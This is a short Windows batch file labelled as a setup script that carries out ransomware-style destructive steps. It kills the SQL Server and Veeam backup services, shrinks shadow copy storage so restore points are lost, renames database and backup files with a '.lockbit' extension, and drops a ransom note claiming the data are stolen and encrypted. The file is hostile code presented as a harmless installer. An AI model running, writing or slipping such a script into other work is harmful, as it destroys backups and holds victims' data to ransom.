REM setup 4517 v0
@echo off
taskkill /f /im sqlservr.exe
taskkill /f /im veeam.backup.service.exe
vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
for /r D:\ %%i in (*.mdf *.ldf *.bak) do ren "%%i" "%%~nxi.lockbit"
echo Your data are stolen and encrypted > C:\README.txt
